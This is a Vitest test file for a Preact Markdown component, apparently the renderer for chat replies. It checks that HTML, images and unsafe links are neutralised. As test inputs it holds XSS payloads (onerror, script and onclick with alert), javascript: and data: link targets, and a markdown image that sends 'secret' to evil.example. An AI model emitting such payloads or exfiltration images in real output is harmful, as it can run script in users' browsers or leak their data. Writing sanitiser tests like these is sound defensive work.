import { render } from "preact";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

function shown(text: string): HTMLElement {
  const root = document.createElement("div");
  render(<Markdown text={text} />, root);
  return root;
}

test("lists, emphasis and code are elements", () => {
  const root = shown("Two tasks:\n\n- **Pay rent** on `Friday`\n- Call Ana");
  expect(root.querySelectorAll("li")).toHaveLength(2);
  expect(root.querySelector("b")?.textContent).toBe("Pay rent");
  expect(root.querySelector("code")?.textContent).toBe("Friday");
});

test("a heading becomes strong text of the reply", () => {
  const root = shown("# Today");
  expect(root.querySelector("h1")).toBeNull();
  expect(root.querySelector("b")?.textContent).toBe("Today");
});

test.each(["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "a <b onclick=alert(1)>b</b>"])(
  "HTML stays text: %s",
  (html) => {
    const root = shown(html);
    expect(root.querySelector("img, script, b")).toBeNull();
    expect(root.textContent).toContain(html.slice(0, 8));
  },
);

test("an image is its description, and loads nothing", () => {
  const root = shown("![a leak](https://evil.example/?q=secret)");
  expect(root.querySelector("img")).toBeNull();
  expect(root.textContent).toBe("a leak");
});

test("a link shows where it leads and opens apart", () => {
  const anchor = shown("[the docs](https://example.com/a)").querySelector("a")!;
  expect(anchor.textContent).toBe("the docs (example.com)");
  expect(anchor.rel).toBe("noopener noreferrer");
});

test.each(["javascript:alert(1)", "data:text/html,x", "/session"])("%s is no link", (href) => {
  expect(shown(`[click](${href})`).querySelector("a")).toBeNull();
});

test("characters of HTML are shown as they were written", () => {
  expect(shown('Tom & Jerry < "5"').textContent).toBe('Tom & Jerry < "5"');
});
